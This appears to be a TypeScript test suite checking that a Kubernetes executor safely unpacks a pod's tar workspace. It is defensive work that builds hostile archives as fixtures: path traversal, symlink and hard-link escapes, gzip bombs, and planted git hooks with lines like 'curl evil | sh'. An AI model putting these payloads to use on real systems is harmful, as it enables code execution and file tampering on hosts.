// The kubernetes executor takes the pod's workspace back as tar (pullWorkspace). The pod runs the job's code, so these
// archives are hand-made the way a hostile pod could make them (its `tar` is whatever the image holds).
import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Header } from 'tar-stream';
import { pack as tarPack } from 'tar-stream';
import { unpackPodWorkspace } from '../../../src/executors/kubernetes/unpack-pod-workspace.js';

const root = mkdtempSync(join(tmpdir(), 'unpack-pod-workspace-'));
after(() => rmSync(root, { recursive: true, force: true }));

/** A sandbox: `outside/` beside the workspace, so an escape shows up as a file there. */
function sandbox(): { workspace: string; outside: string } {
  const dir = mkdtempSync(join(root, 'case-'));
  const workspace = join(dir, 'workspace');
  const outside = join(dir, 'outside');
  mkdirSync(workspace);
  mkdirSync(outside);
  return { workspace, outside };
}

async function archive(entries: readonly (Partial<Header> & Pick<Header, 'name'> & { content?: string })[]): Promise<Buffer> {
  const tar = tarPack();
  for (const { content, ...header } of entries) tar.entry(header, content ?? '');
  tar.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of tar as AsyncIterable<Buffer>) chunks.push(chunk);
  return gzipSync(Buffer.concat(chunks));
}

const unpack = async (bytes: Buffer, workspace: string, maxBytes = 1024 * 1024) => unpackPodWorkspace(Readable.from([bytes]), workspace, { maxBytes });

test('files and directories the pod made land in the workspace, replacing the runner\'s; set-uid bits are dropped', async () => {
  const { workspace } = sandbox();
  writeFileSync(join(workspace, 'kept.txt'), 'the runner\'s\n');
  writeFileSync(join(workspace, 'app.txt'), 'old\n');
  const bytes = await archive([
    { name: './', type: 'directory' },
    { name: './dist/', type: 'directory' },
    { name: './dist/app.txt', content: 'built\n' },
    { name: './app.txt', content: 'new\n', mode: 0o4755 },
    { name: './dist/link', type: 'symlink', linkname: 'app.txt' },
  ]);
  const { warnings } = await unpack(bytes, workspace);
  assert.deepEqual(warnings, []);
  assert.equal(readFileSync(join(workspace, 'dist/app.txt'), 'utf8'), 'built\n');
  assert.equal(readFileSync(join(workspace, 'app.txt'), 'utf8'), 'new\n');
  assert.equal(lstatSync(join(workspace, 'app.txt')).mode & 0o7777, 0o755);
  assert.equal(readlinkSync(join(workspace, 'dist/link')), 'app.txt');
  assert.equal(readFileSync(join(workspace, 'kept.txt'), 'utf8'), 'the runner\'s\n');
});

test('a name climbing out with ".." is refused and nothing is written outside', async () => {
  const { workspace, outside } = sandbox();
  const bytes = await archive([{ name: '../outside/x', content: 'escaped' }]);
  await assert.rejects(unpack(bytes, workspace), /refusing the path "\.\.\/outside\/x": "\.\." would leave the workspace/);
  assert.deepEqual(readdirSync(outside), []);
});

test('an absolute name is refused', async () => {
  const { workspace, outside } = sandbox();
  const bytes = await archive([{ name: join(outside, 'x'), content: 'escaped' }]);
  await assert.rejects(unpack(bytes, workspace), /refusing the absolute path/);
  assert.deepEqual(readdirSync(outside), []);
});

test('a symbolic link out of the workspace is not made, so a file "through" it stays inside', async () => {
  const { workspace, outside } = sandbox();
  const bytes = await archive([
    { name: 'etc', type: 'symlink', linkname: outside },
    { name: 'etc/passwd', content: 'root::0:0::/:/bin/sh\n' },
    { name: 'up', type: 'symlink', linkname: '../outside' },
  ]);
  const { warnings } = await unpack(bytes, workspace);
  assert.deepEqual(readdirSync(outside), []);
  assert.equal(lstatSync(join(workspace, 'etc')).isDirectory(), true);
  assert.equal(existsSync(join(workspace, 'up')), false);
  assert.equal(warnings.length, 2);
  assert.match(warnings[0]!, /symbolic link "etc" -> ".*outside" leads out of the workspace; not brought back/);
});

test('nothing is written through a symbolic link already in the workspace', async () => {
  const { workspace, outside } = sandbox();
  symlinkSync(outside, join(workspace, 'out'));
  const bytes = await archive([{ name: 'out/x', content: 'escaped' }]);
  await assert.rejects(unpack(bytes, workspace), /refusing "out\/x" from the pod: it would be written through the symbolic link "out"/);
  assert.deepEqual(readdirSync(outside), []);
});

test('a file replacing a link is written in its place, not through it', async () => {
  const { workspace, outside } = sandbox();
  writeFileSync(join(outside, 'secret'), 'host file\n');
  symlinkSync(join(outside, 'secret'), join(workspace, 'report.txt'));
  await unpack(await archive([{ name: 'report.txt', content: 'from the pod\n' }]), workspace);
  assert.equal(readFileSync(join(outside, 'secret'), 'utf8'), 'host file\n');
  assert.equal(readFileSync(join(workspace, 'report.txt'), 'utf8'), 'from the pod\n');
});

test('a hard link to a runner file (its .git/config) is refused; the pod\'s .git is not brought back', async () => {
  const { workspace } = sandbox();
  mkdirSync(join(workspace, '.git'));
  writeFileSync(join(workspace, '.git/config'), '[remote "origin"]\n\turl = https://user:token@host/repo.git\n');
  const bytes = await archive([
    { name: './.git/config', content: '[remote "origin"]\n\turl = https://host/repo.git\n' },
    { name: './.git/hooks/post-checkout', content: 'curl evil | sh\n', mode: 0o755 },
    { name: './dist/config', type: 'link', linkname: './.git/config' },
  ]);
  await assert.rejects(unpack(bytes, workspace), /refusing the hard link "dist\/config" to "\.\/\.git\/config": not a file the pod's archive holds/);
  assert.match(readFileSync(join(workspace, '.git/config'), 'utf8'), /user:token/);
  assert.equal(existsSync(join(workspace, '.git/hooks')), false);
  assert.equal(existsSync(join(workspace, 'dist/config')), false);
});

test('devices and FIFOs are refused', async () => {
  const { workspace } = sandbox();
  await assert.rejects(unpack(await archive([{ name: 'disk', type: 'block-device', devmajor: 8, devminor: 0 }]), workspace), /refusing "disk": a block-device is not brought back from the pod/);
  await assert.rejects(unpack(await archive([{ name: 'pipe', type: 'fifo' }]), workspace), /refusing "pipe": a fifo is not brought back/);
  assert.deepEqual(readdirSync(workspace), []);
});

test('more than the limit unpacked fails with a clear error (a gzip bomb stops there)', async () => {
  const { workspace } = sandbox();
  const bytes = await archive([{ name: 'zeros', content: '\0'.repeat(4 * 1024 * 1024) }]);
  assert.ok(bytes.length < 64 * 1024);
  await assert.rejects(unpack(bytes, workspace, 1024 * 1024), /the pod's workspace is more than 1.0 MiB unpacked, the most the kubernetes executor takes back/);
});

test('what is not gzip\'d tar fails with a clear error', async () => {
  const { workspace } = sandbox();
  await assert.rejects(unpack(Buffer.from('tar: /workspace: Cannot open: Permission denied\n'), workspace), /the pod's workspace archive is not a complete gzip'd tar/);
});

test('links that leave the workspace only together (d -> ., up -> d/..) are removed once all is written', async () => {
  const { workspace, outside } = sandbox();
  writeFileSync(join(outside, 'secret'), 'the runner host\'s\n');
  mkdirSync(join(workspace, '.git'));
  writeFileSync(join(workspace, '.git', 'config'), '[remote "origin"]\n');
  const bytes = await archive([
    { name: './d', type: 'symlink', linkname: '.' },
    { name: './up', type: 'symlink', linkname: 'd/..' },
    { name: './g', type: 'symlink', linkname: 'd/.git' },
    { name: './nowhere', type: 'symlink', linkname: 'missing/file' },
  ]);
  const { warnings } = await unpack(bytes, workspace);
  assert.equal(existsSync(join(workspace, 'up', 'outside', 'secret')), false, 'the workspace leads to the host file');
  assert.equal(existsSync(join(workspace, 'g', 'config')), false, "the workspace leads into the runner's .git");
  assert.deepEqual(readdirSync(workspace).sort(), ['.git', 'd']);
  assert.equal(warnings.length, 3, warnings.join('\n'));
  assert.ok(warnings.every((warning) => /does not lead to a file or folder in the workspace/.test(warning)), warnings.join('\n'));
});

test('.git in another case is left alone too (it is .git on a case-insensitive file system)', async () => {
  const { workspace } = sandbox();
  const bytes = await archive([
    { name: './.GIT/hooks/pre-commit', content: '#!/bin/sh\ncurl evil\n', mode: 0o755 },
    { name: './.Git/config', content: '[core]\n\tfsmonitor = evil\n' },
    { name: './ok.txt', content: 'fine\n' },
  ]);
  await unpack(bytes, workspace);
  assert.deepEqual(readdirSync(workspace), ['ok.txt']);
});

test('an endless run of empty gzip members is cut off at the limit, though it unpacks to nothing', async () => {
  const { workspace } = sandbox();
  const empty = gzipSync(Buffer.alloc(0));
  const members = Buffer.concat(Array.from({ length: Math.ceil((64 * 1024) / empty.length) + 1 }, () => empty));
  await assert.rejects(unpack(members, workspace, 64 * 1024), /more than 64.0 KiB packed/);
});
